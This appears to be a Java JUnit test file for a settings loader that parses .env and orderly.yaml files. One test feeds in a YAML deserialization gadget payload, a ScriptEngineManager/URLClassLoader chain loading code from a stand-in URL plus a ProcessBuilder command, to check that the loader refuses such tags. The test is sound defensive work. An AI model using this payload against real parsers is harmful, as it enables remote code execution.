package dev.orderly.workspace;

import static org.assertj.core.api.Assertions.assertThat;

import dev.orderly.problem.Problem;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

class SettingsTest {

    @TempDir
    Path root;

    @Test
    void prefersTheProcessToDotEnv() throws IOException {
        dotEnv("A=file\nB=file\nC=\n");
        Settings settings = Settings.load(new Workspace(root), Map.of("A", "process", "B", ""));
        assertThat(settings.variable("A")).contains("process");
        assertThat(settings.variableOrigin("A")).isEqualTo("the environment");
        assertThat(settings.variable("B")).contains("file");
        assertThat(settings.variableOrigin("B")).isEqualTo(".env");
        assertThat(settings.variable("C")).isEmpty();
    }

    @Test
    void readsQuotesEscapesAndCommentsOfDotEnv() throws IOException {
        dotEnv("""
            # a comment
            export PLAIN=postgresql://u:p#1@h/d   # behind it
            SINGLE='a "b" $c \\n'
            DOUBLE="a \\"b\\" \\$c \\\\ \\n"
            """);
        Settings settings = settings();
        assertThat(settings.problems().all()).isEmpty();
        assertThat(settings.variable("PLAIN")).contains("postgresql://u:p#1@h/d");
        assertThat(settings.variable("SINGLE")).contains("a \"b\" $c \\n");
        assertThat(settings.variable("DOUBLE")).contains("a \"b\" $c \\ \n");
    }

    @Test
    void tellsAllProblemsOfDotEnvAndNeverAValue() throws IOException {
        dotEnv("no assignment secret\nA=1\nA=2\nB=\"secret\nC=\"\\qsecret\"\n");
        assertThat(messages())
                .containsExactly(
                        ".env:1: expected NAME=value",
                        ".env:3: A: the variable stands twice",
                        ".env:4: B: the quotes do not close, or something follows them",
                        ".env:5: C: \"\\q\" is no escape");
    }

    @Test
    void readsWhereTheModelIs() throws IOException {
        assertThat(settings().model()).isEqualTo(settings().workspace().model());
        yaml("model: target/app.jar\n");
        assertThat(settings().model()).isEqualTo(settings().workspace().root().resolve("target/app.jar"));
    }

    @Test
    void refusesTagsThatBuildObjects() throws IOException {
        yaml("""
            format: 1
            name: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://x/"]]]]
            environments:
              dev: !!java.lang.ProcessBuilder {command: [touch, /tmp/owned]}
            """);
        assertThat(messages())
                .containsExactly(
                        "orderly.yaml:2: name: the tag \"tag:yaml.org,2002:javax.script.ScriptEngineManager\" asks for"
                                + " an object, which configuration never builds",
                        "orderly.yaml:4: environments.dev: the tag \"tag:yaml.org,2002:java.lang.ProcessBuilder\" asks"
                                + " for an object, which configuration never builds");
    }

    @Test
    void refusesAnchorsSoThatNothingContainsItself() throws IOException {
        yaml("environments: &a\n  dev: *a\n");
        assertThat(messages()).containsExactly("orderly.yaml:1: environments: anchors and aliases are not read");
    }

    @Test
    void tellsOfUnknownKeysKeysThatStandTwiceAndBrokenYaml() throws IOException {
        yaml("enviroments: {}\nname: a\nname: b\n");
        Settings settings = settings();
        assertThat(settings.problems().all().stream().map(Problem::message))
                .containsExactly(
                        "orderly.yaml:3: name: the key stands twice", "orderly.yaml:1: enviroments: unknown key");
        assertThat(settings.problems().all().get(1).hints()).containsExactly("did you mean \"environments\"?");
        yaml("a: [1\nb: 2");
        assertThat(messages().get(0)).startsWith("orderly.yaml:2: not YAML: ");
    }

    @Test
    void refusesANewerFormatAndNothingElse() throws IOException {
        yaml("format: 7\nsomething_of_the_future: true\n");
        assertThat(messages()).containsExactly("orderly.yaml has format 7, and this orderly knows formats up to 1");
    }

    @Test
    void bringsOlderFormatsUpStepByStep() {
        FormatUpgrades<String> upgrades =
                new FormatUpgrades<>("a file", List.of(text -> text + "2", text -> text + "3"));
        assertThat(upgrades.current()).isEqualTo(3);
        assertThat(upgrades.upgrade("1", 1)).isEqualTo("123");
        assertThat(upgrades.upgrade("1", 2)).isEqualTo("13");
        assertThat(upgrades.upgrade("1", 3)).isEqualTo("1");
    }

    @Test
    void namesTheWorkspaceAfterItsFolderUnlessToldOtherwise() throws IOException {
        Path folder = Files.createDirectory(root.resolve("My Shop-2"));
        assertThat(Settings.load(new Workspace(folder), Map.of()).name()).isEqualTo("my_shop_2");
        yaml("name: hms\n");
        assertThat(settings().name()).isEqualTo("hms");
    }

    private List<String> messages() {
        return settings().problems().all().stream().map(Problem::message).toList();
    }

    private Settings settings() {
        return Settings.load(new Workspace(root), Map.of());
    }

    private void yaml(String text) throws IOException {
        Files.writeString(root.resolve("orderly.yaml"), text);
    }

    private void dotEnv(String text) throws IOException {
        Files.writeString(root.resolve(".env"), text);
    }

    @Test
    void readsTheFileBesideTheMigrationsWhenTheRootHasNone() throws IOException {
        Path migrations = Files.createDirectories(root.resolve("migrations"));
        Files.writeString(migrations.resolve("orderly.yaml"), "format: 1\nname: clinic\n");
        assertThat(Settings.load(new Workspace(root), Map.of()).name()).isEqualTo("clinic");
    }

    @Test
    void refusesTwoConfigurations() throws IOException {
        Path migrations = Files.createDirectories(root.resolve("migrations"));
        Files.writeString(migrations.resolve("orderly.yaml"), "name: clinic\n");
        Files.writeString(root.resolve("orderly.yaml"), "name: other\n");
        assertThat(Settings.load(new Workspace(root), Map.of()).problems().all())
                .extracting(Problem::code)
                .containsExactly("configuration-twice");
    }
}
